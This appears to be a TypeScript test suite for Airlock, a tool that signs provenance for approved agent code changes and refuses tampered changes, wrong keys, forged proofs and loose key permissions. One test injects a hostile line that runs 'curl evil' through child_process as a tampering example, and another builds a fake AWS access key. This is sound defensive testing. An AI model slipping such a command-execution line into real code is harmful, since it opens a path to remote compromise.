import { test } from 'node:test';
import assert from 'node:assert/strict';
import { chmodSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { generateKeyPairSync, createPublicKey } from 'node:crypto';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  createProposal,
  approveProposal,
  applyProposal,
  proposalStatus,
  type Proposal,
} from '../../src/review/index.ts';
import { AirlockError } from '../../src/common/errors.ts';
import { checkpoint, proveEvent, readSigningKey, keyId, type InclusionProofDoc } from '../../src/audit/index.ts';
import {
  signEnvelope,
  IN_TOTO_PAYLOAD_TYPE,
  NOTES_REF,
  type DsseEnvelope,
  type ProvenanceStatement,
} from '../../src/provenance/index.ts';
import { setup, agentSession, makeRemote, sh, runCli, type Env } from './fixture.ts';

// Signed provenance end to end: a real apply to a real bare git remote writes the DSSE
// envelope as a git note pushed with the branch; a CI clone of the remote verifies it with
// `airlock verify-change` in a fresh process and the public key alone, and every tampering
// is refused (exit 78) with a message naming what was tampered.

function org(remote: string): string {
  return `review:\n  approvals:\n    required: 2\n    groups:\n      security: [sec@example.com]\n  overrideRoles: [security]\n  apply:\n    remote: ${remote}\n`;
}

interface World {
  env: Env;
  remote: string;
  ci: string;
  commit: string;
  pubFile: string;
  original: DsseEnvelope;
  statement: ProvenanceStatement;
}

type Approval = [who: string, overrideReason?: string];
const CLEAN = { 'src/app.js': "module.exports = () => 'provenance';\n" };

const TWO: Approval[] = [['bob@example.com'], ['alice@example.com']];

/** An approved proposal of a scripted agent session (started by bob) and a bare remote for it; both removed after `fn`. */
async function approved(
  work: Record<string, string>,
  approvals: Approval[],
  fn: (env: Env, remote: string, p: Proposal) => Promise<void>,
  orgExtra = '',
): Promise<void> {
  const root = mkdtempSync(join(tmpdir(), 'airlock-prov-remote-'));
  const env = setup(org(join(root, 'remote.git')) + orgExtra);
  try {
    const remote = makeRemote(env, root);
    agentSession(env, 's-prov', work);
    const p = (await createProposal(env.store, 's-prov', { orgPolicy: env.orgPolicy, home: env.home })).proposal;
    for (const [as, overrideReason] of approvals) approveProposal(env.store, p.id, { as, overrideReason, env: {} });
    await fn(env, remote, p);
  } finally {
    env.done();
    rmSync(root, { recursive: true, force: true });
  }
}

async function applied(
  fn: (w: World) => Promise<void>,
  work: Record<string, string> = CLEAN,
  approvals: Approval[] = TWO,
): Promise<void> {
  await approved(work, approvals, async (env, remote, p) => {
    const r = await applyProposal(env.store, p.id, { as: 'alice@example.com', env: {} });
    // CI in the target repository: a clone of the remote plus the notes ref
    const ci = join(env.dir, 'ci');
    sh(env.dir, 'clone', '-q', remote, ci);
    sh(ci, 'fetch', '-q', 'origin', `${NOTES_REF}:${NOTES_REF}`, `refs/heads/${r.branch}:refs/heads/${r.branch}`);
    const pub = await runCli(['provenance', 'pubkey'], { AIRLOCK_HOME: env.home });
    assert.equal(pub.code, 0, pub.stderr);
    const pubFile = join(env.dir, 'provenance.pub.pem');
    writeFileSync(pubFile, pub.stdout);
    const original = JSON.parse(sh(ci, 'notes', `--ref=${NOTES_REF}`, 'show', r.commit)) as DsseEnvelope;
    const statement = JSON.parse(Buffer.from(original.payload, 'base64').toString('utf8')) as ProvenanceStatement;
    await fn({ env, remote, ci, commit: r.commit, pubFile, original, statement });
  });
}

/** Verifies in a fresh process, as CI would (no AIRLOCK_HOME with keys: the public key file alone). */
async function verify(w: World, commit = w.commit, key = w.pubFile) {
  const r = await runCli(['verify-change', commit, '--repo', w.ci, '--key', key, '--json'], {
    AIRLOCK_HOME: join(w.env.dir, 'empty-home'),
  });
  const out = r.stdout
    ? (JSON.parse(r.stdout) as { verified: boolean; checks: { check: string; ok: boolean; message: string }[] })
    : null;
  return {
    code: r.code,
    stderr: r.stderr,
    out,
    failed:
      out?.checks
        .filter((c) => !c.ok)
        .map((c) => `${c.check}: ${c.message}`)
        .join('\n') ?? '',
  };
}

function setNote(w: World, commit: string, envelope: DsseEnvelope): void {
  const f = join(w.env.dir, 'note.json');
  writeFileSync(f, JSON.stringify(envelope));
  sh(w.ci, 'notes', `--ref=${NOTES_REF}`, 'add', '-f', '-F', f, commit);
}

const clone = <T>(v: T): T => structuredClone(v);
const orgKey = (w: World) => readSigningKey(join(w.env.home, 'keys', 'provenance-ed25519.pem'), 'test');
/** A statement re-signed with the organisation's own key: only the content checks can catch it. */
const resigned = (w: World, st: ProvenanceStatement) =>
  signEnvelope(Buffer.from(JSON.stringify(st)), IN_TOTO_PAYLOAD_TYPE, orgKey(w));
const edited = (w: World, st: ProvenanceStatement): DsseEnvelope => ({
  ...w.original,
  payload: Buffer.from(JSON.stringify(st)).toString('base64'),
});

test('apply pushes a signed provenance note that verifies offline with the public key alone', async () => {
  await applied(async (w) => {
    assert.equal(
      statSync(join(w.env.home, 'keys', 'provenance-ed25519.pem')).mode & 0o777,
      0o600,
      'the org key is owner-only',
    );
    assert.equal(
      sh(w.remote, 'notes', `--ref=${NOTES_REF}`, 'list', w.commit).length > 0,
      true,
      'the note is on the remote',
    );
    const p = w.statement.predicate;
    assert.equal(w.statement._type, 'https://in-toto.io/Statement/v1');
    assert.equal(w.statement.predicateType, 'https://airlock.dev/provenance/v1');
    assert.deepEqual(
      w.statement.subject.map((s) => s.digest),
      [{ gitCommit: w.commit }, { gitTree: sh(w.ci, 'rev-parse', `${w.commit}^{tree}`) }],
    );
    assert.equal(p.session, 's-prov');
    assert.equal(p.baseCommit, w.env.base);
    assert.deepEqual(
      p.approvals.map((a) => a.by),
      ['bob@example.com', 'alice@example.com'],
    );
    assert.equal(p.audit.approvalProofs.length, 2);
    assert.equal(p.policy.review.required, 2);
    assert.equal(w.original.signatures[0]!.keyid, keyId(createPublicKey(readFileSync(w.pubFile, 'utf8'))));

    const r = await verify(w);
    assert.equal(r.code, 0, r.failed || r.stderr);
    assert.equal(r.out!.verified, true);
    assert.deepEqual(
      r.out!.checks.map((c) => c.check),
      ['signature', 'subject', 'tree', 'checkpoint', 'inclusion', 'approvals'],
    );
    const human = await runCli(['verify-change', 'refs/heads/airlock/s-prov', '--repo', w.ci, '--key', w.pubFile], {
      AIRLOCK_HOME: join(w.env.dir, 'empty-home'),
      NO_COLOR: '1',
    });
    assert.equal(human.code, 0, human.stderr);
    assert.match(human.stdout, new RegExp(`^verified: commit ${w.commit}$`, 'm'));

    // a commit Airlock did not apply has no provenance: 66
    const none = await verify(w, w.env.base);
    assert.equal(none.code, 66);
    assert.match(none.stderr, /has no Airlock provenance/);
  });
});

test('an amended commit is refused: no provenance of its own, and a copied note names the tree', async () => {
  await applied(async (w) => {
    sh(w.ci, 'checkout', '-q', 'airlock/s-prov');
    writeFileSync(
      join(w.ci, 'src', 'app.js'),
      "module.exports = () => require('child_process').execSync('curl evil');\n",
    );
    sh(w.ci, 'commit', '-q', '-a', '--amend', '--no-edit');
    const amended = sh(w.ci, 'rev-parse', 'HEAD');
    assert.equal((await verify(w, amended)).code, 66);
    sh(w.ci, 'notes', `--ref=${NOTES_REF}`, 'copy', w.commit, amended);
    const r = await verify(w, amended);
    assert.equal(r.code, 78);
    assert.match(r.failed, /^tree: the commit's tree [0-9a-f]{40} differs from the approved tree/m);
    assert.match(r.failed, /^subject: commit [0-9a-f]{40} is not the commit the statement covers/m);
  });
});

test('an approval removed from the statement is refused, also when re-signed with the org key', async () => {
  await applied(async (w) => {
    const st = clone(w.statement);
    st.predicate.approvals.pop();
    setNote(w, w.commit, edited(w, st));
    let r = await verify(w);
    assert.equal(r.code, 78);
    assert.match(r.failed, /^signature: envelope edited/m);
    assert.match(r.failed, /^inclusion: .*proven in the log but missing from the statement's approvals/m);
    assert.match(
      r.failed,
      /^approvals: the approvals do not meet the review policy in force: 1 of 2 required approvals/m,
    );

    st.predicate.audit.approvalProofs.pop(); // a signer that drops the approval and its proof
    setNote(w, w.commit, resigned(w, st));
    r = await verify(w);
    assert.equal(r.code, 78);
    assert.doesNotMatch(r.failed, /^signature/m);
    assert.match(r.failed, /^approvals: .*1 of 2 required approvals/m);
  });
});

test('an edited envelope payload and a signature from a wrong key are refused by name', async () => {
  await applied(async (w) => {
    const st = clone(w.statement);
    st.predicate.policy.review.required = 1; // claim a laxer policy was in force
    setNote(w, w.commit, edited(w, st));
    let r = await verify(w);
    assert.equal(r.code, 78);
    assert.match(r.failed, /^signature: envelope edited: the signature of key [0-9a-f]{16} does not verify/m);

    const wrong = generateKeyPairSync('ed25519');
    const wrongKey = { privateKey: wrong.privateKey, publicKey: wrong.publicKey, keyId: keyId(wrong.publicKey) };
    setNote(w, w.commit, signEnvelope(Buffer.from(w.original.payload, 'base64'), IN_TOTO_PAYLOAD_TYPE, wrongKey));
    r = await verify(w);
    assert.equal(r.code, 78);
    assert.match(
      r.failed,
      new RegExp(`^signature: wrong key: the envelope is signed by key ${wrongKey.keyId}, not by the given key`, 'm'),
    );

    // a malformed statement signed with the org key is a refusal, not a crash
    const broken = clone(w.statement) as unknown as { predicate: { approvals: unknown[] } };
    broken.predicate.approvals = [null];
    setNote(w, w.commit, resigned(w, broken as unknown as ProvenanceStatement));
    r = await verify(w);
    assert.equal(r.code, 78, r.stderr);
    assert.match(r.failed, /^statement: the statement is malformed/m);

    // the genuine note checked with another public key
    setNote(w, w.commit, w.original);
    const other = join(w.env.dir, 'other.pub.pem');
    writeFileSync(other, wrong.publicKey.export({ type: 'spki', format: 'pem' }) as string);
    r = await verify(w, w.commit, other);
    assert.equal(r.code, 78);
    assert.match(r.failed, /^signature: wrong key/m);
  });
});

test('an inclusion proof from another log, or an altered proof, is refused even when re-signed', async () => {
  await applied(async (w) => {
    // another Airlock log that records the same approval
    const otherEnv = setup(org('/nonexistent'));
    let foreign: InclusionProofDoc;
    try {
      const real = w.statement.predicate.audit.approvalProofs[1]!.event;
      const e = otherEnv.store.append({
        type: 'review.approved',
        session: real.session,
        severity: 'info',
        decision: 'allow',
        rule: 'review.approvals',
        data: real.data,
      });
      const cp = checkpoint(otherEnv.store, 'test', { keyDir: join(otherEnv.home, 'keys') });
      foreign = proveEvent(otherEnv.store, e.id, { under: cp });
    } finally {
      otherEnv.done();
    }
    const st = clone(w.statement);
    st.predicate.audit.approvalProofs[1] = foreign;
    st.predicate.approvals[1]!.eventId = foreign.event.id;
    st.predicate.approvals[1]!.time = foreign.event.ts;
    setNote(w, w.commit, resigned(w, st));
    let r = await verify(w);
    assert.equal(r.code, 78);
    assert.match(r.failed, /^inclusion: proof 2: proof for another log \([0-9a-f-]{36}, not [0-9a-f-]{36}\)/m);
    assert.match(r.failed, /^approvals: .*1 of 2 required approvals/m);

    const altered = clone(w.statement);
    const path = altered.predicate.audit.approvalProofs[0]!.rfc6962.auditPath;
    assert.ok(path.length > 0);
    path[0] = (path[0]![0] === '0' ? '1' : '0') + path[0]!.slice(1);
    setNote(w, w.commit, resigned(w, altered));
    r = await verify(w);
    assert.equal(r.code, 78);
    assert.match(
      r.failed,
      /^inclusion: proof 1: inclusion proof does not hold: audit path does not lead to the signed root/m,
    );
  });
});

const AWS_KEY = 'AKIA' + 'Z7QH3KXW2M4PL9TB'; // built here so this file holds no key literal

test('findings travel as rule, severity and place, never the secret; a dropped override is refused', async () => {
  await applied(
    async (w) => {
      assert.ok(
        !Buffer.from(w.original.payload, 'base64').toString('utf8').includes(AWS_KEY),
        'the statement never carries the key',
      );
      assert.deepEqual(w.statement.predicate.findings, [
        {
          rule: 'secrets.secretlint/aws/AWSAccessKeyID',
          severity: 'critical',
          file: 'src/config.js',
          line: 1,
          blocking: true,
        },
      ]);
      assert.equal(w.statement.predicate.policy.review.blockingFindings, 1);
      assert.deepEqual(w.statement.predicate.policy.review.overrideMembers, ['sec@example.com']);
      assert.equal((await verify(w)).code, 0);

      // a signer that hides the override (the approval then no longer matches its proven event)
      const st = clone(w.statement);
      const sec = st.predicate.approvals.find((a) => a.by === 'sec@example.com')!;
      sec.override = false;
      setNote(w, w.commit, resigned(w, st));
      const r = await verify(w);
      assert.equal(r.code, 78);
      assert.match(r.failed, /^inclusion: approval by sec@example.com does not match its recorded event/m);
    },
    { 'src/config.js': `module.exports = { accessKeyId: '${AWS_KEY}' };\n` },
    [['sec@example.com', 'test fixture key, rotated'], ['alice@example.com']],
  );
});

test('an organisation key from AIRLOCK_PROVENANCE_KEY signs; one others can read is refused and nothing is pushed', async () => {
  await approved(CLEAN, TWO, async (env, remote, p) => {
    const k = generateKeyPairSync('ed25519');
    const keyFile = join(env.dir, 'org-provenance.pem');
    writeFileSync(keyFile, k.privateKey.export({ type: 'pkcs8', format: 'pem' }) as string, { mode: 0o644 });
    await assert.rejects(
      applyProposal(env.store, p.id, { as: 'alice@example.com', env: { AIRLOCK_PROVENANCE_KEY: keyFile } }),
      (e: unknown) =>
        e instanceof AirlockError && /failed at provenance: .*readable by group or others/.test(e.message),
    );
    assert.equal(sh(remote, 'for-each-ref', 'refs/heads/airlock', 'refs/notes'), '', 'no signature, no push');
    assert.equal(proposalStatus(env.store, p).state, 'approved');

    chmodSync(keyFile, 0o600);
    const r = await applyProposal(env.store, p.id, {
      as: 'alice@example.com',
      env: { AIRLOCK_PROVENANCE_KEY: keyFile },
    });
    const pubFile = join(env.dir, 'org.pub.pem');
    writeFileSync(pubFile, k.publicKey.export({ type: 'spki', format: 'pem' }) as string);
    const ok = await runCli(['verify-change', r.commit, '--repo', remote, '--key', pubFile], {
      AIRLOCK_HOME: join(env.dir, 'empty-home'),
    });
    assert.equal(ok.code, 0, ok.stdout + ok.stderr);
  });
});

test('the org policy names the provenance key (provenance.key): it signs even when AIRLOCK_PROVENANCE_KEY names another, pubkey prints it, and a repo file cannot set it', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'airlock-prov-orgkey-'));
  try {
    const k = generateKeyPairSync('ed25519');
    const keyFile = join(dir, 'org-provenance.pem');
    writeFileSync(keyFile, k.privateKey.export({ type: 'pkcs8', format: 'pem' }) as string, { mode: 0o600 });
    const other = generateKeyPairSync('ed25519');
    const otherFile = join(dir, 'operator.pem');
    writeFileSync(otherFile, other.privateKey.export({ type: 'pkcs8', format: 'pem' }) as string, { mode: 0o600 });
    await approved(
      CLEAN,
      TWO,
      async (env, remote, p) => {
        const r = await applyProposal(env.store, p.id, {
          as: 'alice@example.com',
          env: { AIRLOCK_PROVENANCE_KEY: otherFile },
        });
        const pub = await runCli(['provenance', 'pubkey', '--org-policy', env.orgPolicy!], { AIRLOCK_HOME: env.home });
        assert.equal(pub.code, 0, pub.stderr);
        assert.equal(pub.stdout, k.publicKey.export({ type: 'spki', format: 'pem' }));
        const pubFile = join(dir, 'org.pub.pem');
        writeFileSync(pubFile, pub.stdout);
        const ok = await runCli(['verify-change', r.commit, '--repo', remote, '--key', pubFile], {
          AIRLOCK_HOME: join(dir, 'empty-home'),
        });
        assert.equal(ok.code, 0, ok.stdout + ok.stderr);
      },
      `provenance:\n  key: ${keyFile}\n`,
    );
    const repoFile = join(dir, 'airlock.yaml');
    writeFileSync(repoFile, `version: 1\nprovenance:\n  key: ${otherFile}\n`);
    const bad = await runCli(['policy', 'check', repoFile], {
      AIRLOCK_HOME: join(dir, 'home'),
      AIRLOCK_ORG_POLICY: '',
    });
    assert.equal(bad.code, 65, bad.stderr);
    assert.match(
      bad.stderr,
      /airlock\.yaml:3:\d+: provenance\.key: only the organisation policy may set provenance\.key/,
    );
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});
